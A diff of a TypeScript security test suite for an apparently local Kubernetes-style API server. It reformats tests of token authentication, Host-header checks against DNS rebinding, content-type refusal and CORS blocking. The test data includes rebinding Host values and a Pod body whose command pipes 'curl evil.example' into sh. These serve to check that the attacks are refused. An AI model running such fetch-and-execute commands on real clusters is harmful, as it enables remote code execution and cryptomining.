@@ -50,7 +50,7 @@ async function answer(fetch: Fetch, path: string, init?: RequestInit): Promise<{
 }
 
 describe('who may ask: a bearer token, else anonymous on health and version only', () => {
-  test('no token: 401 with upstream\'s Status, on every API path (a Secret list included)', async () => {
+  test("no token: 401 with upstream's Status, on every API path (a Secret list included)", async () => {
     for (const path of ['/api/v1/secrets', '/api/v1/namespaces/default/configmaps', '/api', '/apis', '/openapi/v3', '/version/', '/healthz/etcd', '/']) {
       const r = await answer(anonymous, path);
       expect([r.status, r.body], `GET ${path} without a token`).toEqual([401, UNAUTHORIZED]);
@@ -74,7 +74,7 @@ describe('who may ask: a bearer token, else anonymous on health and version only
     }
   });
 
-  test('the scheme is case-blind as upstream\'s; other schemes and empty tokens are no credentials (anonymous)', async () => {
+  test("the scheme is case-blind as upstream's; other schemes and empty tokens are no credentials (anonymous)", async () => {
     expect((await answer(httpsFetch(server.ca, { Authorization: `bearer ${server.token}` }), '/api/v1/secrets')).status).toBe(200);
     expect((await answer(httpsFetch(server.ca, { Authorization: `BEARER ${server.token}` }), '/api/v1/secrets')).status).toBe(200);
     for (const header of [`Basic ${Buffer.from('admin:admin').toString('base64')}`, 'Bearer', 'Bearer  ', `Token ${server.token}`]) {
@@ -128,7 +128,21 @@ describe('where from: the Host header must name this machine (DNS rebinding)', (
 
   test('any other name is refused with 403 and a clear Status, before authentication, even with the right token', async () => {
     const port = new URL(server.url).port;
-    for (const host of ['evil.example', `evil.example:${port}`, `localhost.evil.example:${port}`, `127.0.0.1.nip.io:${port}`, '10.0.0.1', '0.0.0.0', '[::2]', '[::ffff:127.0.0.1]', '128.0.0.1', '127.0.0.256', `127.0.0.1:${port}:1`, `localhost:http`, '0177.0.0.1']) {
+    for (const host of [
+      'evil.example',
+      `evil.example:${port}`,
+      `localhost.evil.example:${port}`,
+      `127.0.0.1.nip.io:${port}`,
+      '10.0.0.1',
+      '0.0.0.0',
+      '[::2]',
+      '[::ffff:127.0.0.1]',
+      '128.0.0.1',
+      '127.0.0.256',
+      `127.0.0.1:${port}:1`,
+      `localhost:http`,
+      '0177.0.0.1',
+    ]) {
       for (const credentials of [{} as Record<string, string>, { Authorization: `Bearer ${server.token}` }]) {
         const r = await answer(httpsFetch(server.ca, { ...credentials, Host: host }), '/api/v1/secrets');
         expect(r.status, `Host: ${host}`).toBe(403);
@@ -150,14 +164,19 @@ describe('with what: bodies in a Kubernetes content type', () => {
   const post = (type: string | undefined, name: string, extra: Record<string, string> = {}) =>
     answer(admin, '/api/v1/namespaces/default/configmaps', { method: 'POST', headers: { ...(type === undefined ? {} : { 'Content-Type': type }), ...extra }, body: configMap(name) });
 
-  test('the simple-request types a web page may send are 415 with upstream\'s message, even with the right token', async () => {
+  test("the simple-request types a web page may send are 415 with upstream's message, even with the right token", async () => {
     for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/html', '*/*']) {
       const r = await post(type, 'refused');
       expect(r.status, `Content-Type: ${type}`).toBe(415);
-      expect(r.body).toMatchObject({ reason: 'UnsupportedMediaType', message: 'the body of the request was in an unknown format - accepted media types include: application/json, application/yaml, application/vnd.kubernetes.protobuf' });
+      expect(r.body).toMatchObject({
+        reason: 'UnsupportedMediaType',
+        message: 'the body of the request was in an unknown format - accepted media types include: application/json, application/yaml, application/vnd.kubernetes.protobuf',
+      });
     }
     const patch = await answer(admin, '/api/v1/namespaces/default/configmaps/x', { method: 'PATCH', headers: { 'Content-Type': 'text/plain' }, body: '{}' });
-    expect(patch.body.message).toBe('the body of the request was in an unknown format - accepted media types include: application/json-patch+json, application/merge-patch+json, application/strategic-merge-patch+json, application/apply-patch+yaml');
+    expect(patch.body.message).toBe(
+      'the body of the request was in an unknown format - accepted media types include: application/json-patch+json, application/merge-patch+json, application/strategic-merge-patch+json, application/apply-patch+yaml',
+    );
     expect(await configMapNames()).not.toContain('refused');
   });
 
@@ -193,7 +212,10 @@ describe('no web page is let in', () => {
       await anonymous(url('/api/v1/secrets'), { headers: origin }),
       await admin(url('/api/v1/namespaces/default/configmaps'), { headers: origin }),
       await anonymous(url('/healthz'), { headers: origin }),
-      await anonymous(url('/api/v1/namespaces/default/configmaps'), { method: 'OPTIONS', headers: { ...origin, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'authorization,content-type' } }),
+      await anonymous(url('/api/v1/namespaces/default/configmaps'), {
+        method: 'OPTIONS',
+        headers: { ...origin, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'authorization,content-type' },
+      }),
       await admin(url('/api/v1/namespaces/default/configmaps'), { method: 'OPTIONS', headers: { ...origin, 'Access-Control-Request-Method': 'POST' } }),
     ];
     for (const res of responses) {
@@ -205,7 +227,7 @@ describe('no web page is let in', () => {
     expect(responses[4]!.status, 'OPTIONS with a token is no verb of the API').toBeGreaterThanOrEqual(400);
   });
 
-  test('hostile: what a page\'s no-cors fetch sends (text/plain, a Blob with no type, a form) creates nothing and reads nothing', async () => {
+  test("hostile: what a page's no-cors fetch sends (text/plain, a Blob with no type, a form) creates nothing and reads nothing", async () => {
     const before = await configMapNames();
     const secret = await server.client.create('secrets', { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'precious', namespace: 'default' }, stringData: { password: 'hunter2' } } as KubeObject);
     // A browser's no-cors request: its own Origin, Fetch metadata, never an Authorization header.
@@ -213,8 +235,23 @@ describe('no web page is let in', () => {
     const attempts: [string, RequestInit][] = [
       ['/api/v1/namespaces/default/configmaps', { method: 'POST', headers: { ...page, 'Content-Type': 'text/plain;charset=UTF-8' }, body: configMap('from-a-page') }],
       ['/api/v1/namespaces/default/configmaps', { method: 'POST', headers: page, body: configMap('from-a-page-blob') }],
-      ['/api/v1/namespaces/default/configmaps', { method: 'POST', headers: { ...page, 'Content-Type': 'application/x-www-form-urlencoded' }, body: `x=${encodeURIComponent(configMap('from-a-form'))}` }],
-      ['/api/v1/namespaces/default/pods', { method: 'POST', headers: { ...page, 'Content-Type': 'text/plain' }, body: JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'miner' }, spec: { containers: [{ name: 'c', image: 'busybox', command: ['sh', '-c', 'curl evil.example | sh'] }] } }) }],
+      [
+        '/api/v1/namespaces/default/configmaps',
+        { method: 'POST', headers: { ...page, 'Content-Type': 'application/x-www-form-urlencoded' }, body: `x=${encodeURIComponent(configMap('from-a-form'))}` },
+      ],
+      [
+        '/api/v1/namespaces/default/pods',
+        {
+          method: 'POST',
+          headers: { ...page, 'Content-Type': 'text/plain' },
+          body: JSON.stringify({
+            apiVersion: 'v1',
+            kind: 'Pod',
+            metadata: { name: 'miner' },
+            spec: { containers: [{ name: 'c', image: 'busybox', command: ['sh', '-c', 'curl evil.example | sh'] }] },
+          }),
+        },
+      ],
       ['/api/v1/namespaces/default/secrets/precious', { headers: page }],
     ];
     for (const [path, init] of attempts) {
@@ -252,9 +289,12 @@ describe('each component is itself to the authorizer', () => {
       expect(seen.get('system:kube-scheduler')?.groups).toEqual(['system:authenticated']);
       expect(seen.get('system:kube-controller-manager')?.groups).toEqual(['system:authenticated']);
       for (const node of ['hollow-node-0', 'hollow-node-1']) expect([...(seen.get(`system:node:${node}`)?.groups ?? [])].sort(), node).toEqual(['system:authenticated', 'system:nodes']);
-      expect(seen.get('kubelings:hollow-nodes')?.groups, 'the hollow nodes\' one shared pod watch').toEqual(['system:authenticated']);
+      expect(seen.get('kubelings:hollow-nodes')?.groups, "the hollow nodes' one shared pod watch").toEqual(['system:authenticated']);
       expect(seen.get('my-component')?.groups, 'a component that names no user is the user of its name').toEqual(['system:authenticated']);
-      expect([...seen.keys()].filter((u) => u.startsWith('system:anonymous')), 'nothing in the cluster is anonymous').toEqual([]);
+      expect(
+        [...seen.keys()].filter((u) => u.startsWith('system:anonymous')),
+        'nothing in the cluster is anonymous',
+      ).toEqual([]);
     } finally {
       await cluster.stop();
     }
